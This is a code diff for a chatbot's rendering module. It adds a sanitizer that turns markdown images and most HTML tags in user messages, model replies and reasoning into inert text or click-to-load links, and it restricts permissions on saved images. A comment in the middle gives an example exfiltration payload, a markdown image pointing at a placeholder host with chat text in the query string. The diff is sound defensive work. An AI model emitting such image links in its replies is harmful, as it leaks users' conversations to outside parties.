@@ -9,6 +9,8 @@ line outside the chat.
 from __future__ import annotations
 
 import hashlib
+import os
+import re
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -16,6 +18,7 @@ from typing import Any
 
 from appliance import chat
 from appliance import history as hist
+from appliance.settings import private_dir
 
 _EXT = {"image/png": "png", "image/jpeg": "jpg", "image/gif": "gif", "image/webp": "webp"}
 
@@ -46,11 +49,156 @@ def image_file(image: hist.StoredImage, folder: Path) -> Path:
     digest = hashlib.sha256(image.data).hexdigest()[:32]
     path = folder / f"{digest}.{_EXT.get(image.mime, 'png')}"
     if not path.exists():
-        folder.mkdir(parents=True, exist_ok=True)
+        private_dir(folder)
         tmp = path.with_suffix(".part")
-        tmp.write_bytes(image.data)
+        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)  # the owner's alone
+        with os.fdopen(fd, "wb") as handle:
+            handle.write(image.data)
         tmp.replace(path)
     return path
+
+
+# ------------------------------------------------------------------------ remote images
+# A reply (or a pasted text) must not make the browser fetch anything: `![x](http://host/leak?
+# q=<chat text>)` or `<img src=...>` would hand the chat to whoever runs `host` the moment it
+# renders. The Chatbot renders markdown and (sanitized) HTML in the browser, so the text is made
+# harmless here, before it leaves the server:
+# - every markdown image (inline, reference, collapsed, shortcut) becomes a link with a "remote
+#   image blocked" label: the owner can click it (consent), nothing loads by itself; only inline
+#   `data:image/...` images (no network) stay images;
+# - raw HTML tags show as text, except a few attribute-less formatting tags (`<br>`, `<b>`,
+#   table tags ...): no `src`, `srcset`, `style` or `background` survives;
+# - code spans and fenced code blocks are left alone (the browser shows them as text anyway).
+# A misparse only ever errs towards rewriting text that was code (a display change), never
+# towards leaving an image in place. docs/security/files-uploads.md has the details.
+
+BLOCKED_IMAGE = "🚫 remote image blocked (click to load)"
+_SAFE_TAGS = frozenset(
+    "b i em strong u s del ins sub sup small mark kbd code pre br hr p div span ul ol li dl dt dd "
+    "table thead tbody tfoot tr th td blockquote details summary h1 h2 h3 h4 h5 h6".split()
+)
+_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
+# A code span: a backtick run not escaped, the shortest text, the same run closing it.
+_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
+_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9-]*)([^<>]*)>")
+_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>|<[^\s<>@]+@[^\s<>@]+>")
+_DATA_IMAGE = re.compile(r"\(\s*<?data:image/", re.IGNORECASE)
+
+
+def block_remote_images(text: str) -> str:
+    """Markdown that loads nothing by itself when the Chatbot renders it (see above)."""
+    if "<" not in text and "![" not in text:
+        return text  # the common case, and cheap while a reply streams
+    out: list[str] = []
+    fence: str | None = None
+    prose: list[str] = []
+    for line in text.splitlines(keepends=True):
+        match = _FENCE.match(line.rstrip("\r\n"))
+        if fence is None:
+            opens = match and not (match.group(1)[0] == "`" and "`" in match.group(2))
+            if match and opens:
+                out.append(_prose(prose))
+                prose = []
+                fence = match.group(1)
+                out.append(line)
+            else:
+                prose.append(line)
+        else:
+            out.append(line)
+            closing = match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence)
+            if closing and not match.group(2).strip():
+                fence = None
+    out.append(_prose(prose))
+    return "".join(out)
+
+
+def _prose(lines: list[str]) -> str:
+    text = "".join(lines)
+    parts: list[str] = []
+    last = 0
+    for span in _CODE_SPAN.finditer(text):
+        parts.append(_neutralize(text[last : span.start()]))
+        parts.append(span.group(0))
+        last = span.end()
+    parts.append(_neutralize(text[last:]))
+    return "".join(parts)
+
+
+def _neutralize(text: str) -> str:
+    return _images(_html(text))
+
+
+def _html(text: str) -> str:
+    def tag(match: re.Match[str]) -> str:
+        name, rest = match.group(2).lower(), match.group(3).strip()
+        if name in _SAFE_TAGS and rest in ("", "/"):
+            return match.group(0)
+        return "&lt;" + match.group(0)[1:]
+
+    pieces: list[str] = []
+    last = 0
+    for link in _AUTOLINK.finditer(text):  # <https://...>: a link, fetched only on a click
+        pieces.append(_TAG.sub(tag, text[last : link.start()]))
+        pieces.append(link.group(0))
+        last = link.end()
+    pieces.append(_TAG.sub(tag, text[last:]))
+    return "".join(pieces)
+
+
+def _escaped(text: str, index: int) -> bool:
+    slashes = 0
+    while index - slashes - 1 >= 0 and text[index - slashes - 1] == "\\":
+        slashes += 1
+    return slashes % 2 == 1
+
+
+def _closing_bracket(text: str, start: int) -> int:
+    depth = 0
+    for index in range(start, len(text)):
+        char = text[index]
+        if char == "[" and not _escaped(text, index):
+            depth += 1
+        elif char == "]" and not _escaped(text, index):
+            if depth == 0:
+                return index
+            depth -= 1
+    return -1
+
+
+def _images(text: str) -> str:
+    out: list[str] = []
+    index = 0
+    while True:
+        found = text.find("![", index)
+        if found < 0:
+            out.append(text[index:])
+            return "".join(out)
+        out.append(text[index:found])
+        if _escaped(text, found):
+            out.append("![")
+            index = found + 2
+            continue
+        close = _closing_bracket(text, found + 2)
+        if close < 0:  # not an image (no closing bracket): the "!" cannot start one either
+            out.append("\\![")
+            index = found + 2
+            continue
+        alt = text[found + 2 : close]
+        after = text[close + 1 :]
+        if after.startswith("(") and _DATA_IMAGE.match(after):
+            out.append(text[found : close + 1])  # an inline data: image loads nothing remote
+            index = close + 1
+            continue
+        label = f"[{BLOCKED_IMAGE}: {_images(alt)}]" if alt.strip() else f"[{BLOCKED_IMAGE}]"
+        if after.startswith("(") or (after.startswith("[") and not after.startswith("[]")):
+            out.append(label)  # inline (url) or full reference [ref]: the same target, a link
+            index = close + 1
+        elif after.startswith("[]"):
+            out.append(f"{label}[{alt}]")  # collapsed reference: the label names the target
+            index = close + 3
+        else:
+            out.append(f"{label}[{alt}]")  # shortcut reference ![ref]
+            index = close + 1
 
 
 def _fmt_seconds(value: float | None) -> str:
@@ -87,7 +235,7 @@ def _footer(stats: dict[str, Any], status: str, error: str = "") -> str:
         f'\n\n<div class="reply-stats level-{level} status-{status}">{line}</div>'
     )
     if error:
-        footer = f"\n\n**Error:** {error}" + footer
+        footer = f"\n\n**Error:** {block_remote_images(error)}" + footer
     return footer
 
 
@@ -104,7 +252,7 @@ def _thinking(
             "duration": round(seconds, 1),
             "id": f"think-{position}",
         }
-    return {"role": "assistant", "content": reasoning, "metadata": meta}
+    return {"role": "assistant", "content": block_remote_images(reasoning), "metadata": meta}
 
 
 def render_user(out: Rendered, message: hist.Message, image_path: Callable[..., Path]) -> None:
@@ -116,7 +264,8 @@ def render_user(out: Rendered, message: hist.Message, image_path: Callable[..., 
             {"role": "user", "content": {"path": str(path), "alt_text": image.name}},
         )
     if message.content or not message.images:
-        out.add(message.position, "text", {"role": "user", "content": message.content})
+        text = block_remote_images(message.content)
+        out.add(message.position, "text", {"role": "user", "content": text})
 
 
 def render_stored_reply(out: Rendered, message: hist.Message) -> None:
@@ -129,7 +278,8 @@ def render_stored_reply(out: Rendered, message: hist.Message) -> None:
             "thinking",
             _thinking(message.position, message.reasoning, seconds, pending=False, level=level),
         )
-    body = message.content + _footer(stats, message.status, str(stats.get("error") or ""))
+    error = str(stats.get("error") or "")
+    body = block_remote_images(message.content) + _footer(stats, message.status, error)
     out.add(message.position, "answer", {"role": "assistant", "content": body})
 
 
@@ -160,7 +310,8 @@ def render_live_reply(out: Rendered, position: int, reply: chat.Reply) -> None:
             ),
         )
     if reply.phase == chat.ANSWERING:
-        out.add(position, "answer", {"role": "assistant", "content": reply.content})
+        content = block_remote_images(reply.content)
+        out.add(position, "answer", {"role": "assistant", "content": content})
 
 
 def chat_status(phase: str) -> str:
